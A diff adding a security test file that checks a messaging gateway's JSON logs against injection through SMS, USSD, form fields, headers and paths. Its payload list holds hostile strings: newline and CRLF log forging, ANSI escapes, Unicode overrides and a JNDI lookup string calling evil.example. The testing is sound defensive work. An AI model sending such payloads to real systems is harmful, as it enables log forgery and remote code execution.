@@ -1,0 +1,73 @@
+"""Log injection: whatever arrives, a log is one JSON object a line, and no line holds what a stranger wrote."""
+
+from __future__ import annotations
+
+import json
+import logging
+from urllib.parse import quote, urlencode
+
+import pytest
+
+from gateway import logs
+from tests.security.conftest import AT, NUMBER, Lines, event, sms, ussd
+from tests.web.conftest import Site
+from tests.web.test_verify import post
+
+MARK = "zq9evil"
+PAYLOADS = [
+    f'{MARK}\n{{"at":"2026","level":"info","event":"mt.sent"}}',
+    f"{MARK}\r\nlevel=info",
+    f"{MARK}\x1b[2J\x1b[31m",
+    f'{MARK}","level":"info","event":"forged',
+    f"{MARK}\u2028\u2029\x85\x00\x08\x7f",
+    f"{MARK}\u202etxt",
+    f"{MARK}%s %(name)s {{0}} ${{jndi:ldap://evil.example/a}}",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_payload_anywhere_reaches_no_line(site: Site, lines: Lines, payload: str) -> None:
+    sms(site, payload, "m1")
+    sms(site, "AIDE", "m2", networkCode=payload)
+    sms(site, "AIDE", payload)
+    sms(site, "AIDE", "m3", **{"from": payload})
+    ussd(site, payload)
+    ussd(site, "", session=payload)
+    ussd(site, "", session="s2", phoneNumber=payload)
+    ussd(site, "", session="s3", serviceCode=payload)
+    ussd(site, "", session="s4", networkCode=payload)
+    for route in ("dlr", "optout", "events"):
+        named = dict.fromkeys(("id", "status", "senderId", "failureReason", "networkCode", "sessionId"), payload)
+        site.call("POST", AT + route, urlencode(named | {"phoneNumber": NUMBER}).encode())
+        site.call("POST", AT + route, urlencode(named | {"id": "i", "sessionId": "s", "phoneNumber": payload}).encode())
+    post(site, reference=payload, code=payload, last4=payload)
+    post(site, language=quote(payload), address=payload, reference="1", code="1")
+    event(site, {"reference": payload})
+    event(site, {"reference": "482109375628"}, kind=payload)
+    headers = {f"HTTP_{name}": payload for name in ("X_FORWARDED_FOR", "USER_AGENT", "REFERER", "HOST", "WEBHOOK_ID")}
+    for path in (f"/channels/{payload}/{payload}/ussd", AT + payload, f"/backoffice/{payload}/events", f"/{payload}"):
+        site.call("POST", path, b"{}", QUERY_STRING=payload, **headers)
+    assert len(lines()) > 10
+    assert not [line for line in lines() if MARK in json.dumps(line)]
+
+
+def test_a_librarys_line_is_one_line_without_escapes_and_secrets(lines: Lines) -> None:
+    secret = "deadbeefcafe1babe2f00d3a4b5c6d7e"
+    for path in (f"/channels/at/{secret}/ussd", f"/x//{secret}", f"%2Fchannels%2Fat%2F{secret}", f"/{secret};v=1"):
+        logging.getLogger("werkzeug").warning("bad request: %s\n\x1b[31m", path)
+    logging.getLogger("x").error("Bearer %s", f"{secret}-_{secret}")
+    found = lines()
+    assert len(found) == 5
+    assert secret[:8] not in json.dumps(found)
+    assert "\x1b" in str(found[0]["message"]), "escaped in JSON, not lost"
+
+
+def test_the_message_of_an_error_is_never_logged(lines: Lines) -> None:
+    try:
+        raise ValueError(f"{MARK}: NPI 1234567890")
+    except ValueError as error:
+        logs.failure("test.failed", error, number=NUMBER)
+        logging.getLogger("granian").exception("Application callable raised an exception")
+    assert [line["exception"] for line in lines()] == ["ValueError", "ValueError"]
+    assert MARK not in json.dumps(lines())
+    assert NUMBER not in json.dumps(lines())
